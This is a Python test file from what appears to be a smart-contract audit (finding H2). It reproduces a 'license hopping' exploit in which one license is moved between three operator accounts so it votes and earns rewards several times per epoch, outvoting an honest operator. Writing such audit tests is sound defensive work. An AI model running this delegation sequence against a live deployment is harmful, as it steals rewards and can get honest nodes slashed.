"""Audit H2: one alignment license earns and votes many times per epoch (license hopping).

The attack: one license L and three operator accounts. Each operator registers while it holds L (registration
only asks for a license in the wallet), then L is delegated to operator 1 before the epoch. In the epoch,
operator 1 attests "fail" on every node, L hops to operator 2 (undelegate, delegate), operator 2 attests
"fail", and so on. An honest operator running two licenses attests "pass".

What must hold (the money's and the vote's point of view): one license is worth at most one vote weight and one
reward share per epoch, so the honest operator's two licenses outvote the one hopping license (no node is
flagged, no stake slashed), and the epoch's rewards for L are at most one share.
"""

from __future__ import annotations

import pytest
from supervision_helpers import (
    DA, EMPTY_PROOF, ETHER, REWARD_PER_LICENSE, STORAGE, deploy_world, make_operator, operator_accounts,
    random_file, revert_name, storage_proof, submit_file,
)

EPOCH = 600


def travel_to(timestamp: int) -> None:
    from ape import chain

    if timestamp > chain.pending_timestamp:
        chain.pending_timestamp = timestamp
    chain.mine()


@pytest.fixture(scope="module")
def world(accounts, project):
    return deploy_world(accounts, project, epoch_seconds=EPOCH, slash_bps=1_000)


def attest(world, op, epoch, node_id, passed, proof=EMPTY_PROOF) -> bool:
    """Attest if the contract lets `op` do it now; whether it did."""
    if revert_name(world.supervision, "attest", epoch, node_id, passed, proof, sender=op) is not None:
        return False
    world.supervision.attest(epoch, node_id, passed, proof, sender=op)
    return True


@pytest.mark.xfail(strict=True, raises=AssertionError, reason="exploit H2: a hopping license votes and earns once per operator")
def test_one_license_votes_and_earns_once_per_epoch(world, accounts, project):
    sup, lic, dlg, rewards = world.supervision, world.license, world.delegation, world.rewards
    honest, *attackers = operator_accounts(accounts, 4)
    make_operator(world, honest)
    first = lic.totalMinted() + 1
    lic.buy(1, sender=honest, value=lic.quote(1))
    dlg.delegateNfts(honest.address, [first], sender=honest)  # the honest operator runs 2 licenses

    # one license, passed from wallet to wallet so that every attacker account may register as an operator
    hopper = lic.totalMinted() + 1
    lic.buy(1, sender=attackers[0], value=lic.quote(1))
    for i, op in enumerate(attackers):
        dlg.registerOperator(0, sender=op)
        if i + 1 < len(attackers):
            lic.transferFrom(op.address, attackers[i + 1].address, hopper, sender=op)
    owner = attackers[-1]
    dlg.delegateNfts(attackers[0].address, [hopper], sender=owner)

    data = random_file(5 * 256 * 1024 + 77, 7)
    event = submit_file(world, data)
    sup.registerNode(STORAGE, "http://127.0.0.1:1", accounts[5].address, sender=world.owner)
    sup.registerNode(DA, "http://127.0.0.1:2", accounts[6].address, sender=world.owner)
    sup.stake(0, sender=accounts[5], value=ETHER)
    sup.stake(1, sender=accounts[6], value=ETHER)

    travel_to(sup.epochStart(sup.currentEpoch() + 1))
    sup.openEpoch(sender=honest)
    epoch = sup.currentEpoch()
    allocated = rewards.totalAllocated()
    assert attest(world, honest, epoch, 0, True, storage_proof([event], event, data, 300))
    assert attest(world, honest, epoch, 1, True)
    honest_share = rewards.totalAllocated() - allocated

    votes = 0
    for i, op in enumerate(attackers):
        if i > 0:  # the hop: take L back from the previous operator, give it to this one
            dlg.undelegateNfts(attackers[i - 1].address, [hopper], False, sender=owner)
            dlg.delegateNfts(op.address, [hopper], sender=owner)
        votes += attest(world, op, epoch, 0, False) & attest(world, op, epoch, 1, False)
    hopper_rewards = rewards.totalAllocated() - allocated - honest_share

    travel_to(sup.epochStart(epoch + 1))
    sup.finalize(epoch, [0, 1], sender=honest)
    flagged = [sup.getNode(n).flagged for n in (0, 1)]
    stakes = [sup.getNode(n).stake for n in (0, 1)]
    print(f"\nH2: hopping license attested with {votes} operators; nodes flagged {flagged}, stakes {stakes}; "
          f"rewards for the hopping license this epoch {hopper_rewards} (one share = {REWARD_PER_LICENSE})")
    assert flagged == [False, False] and stakes == [ETHER, ETHER]
    assert hopper_rewards <= REWARD_PER_LICENSE
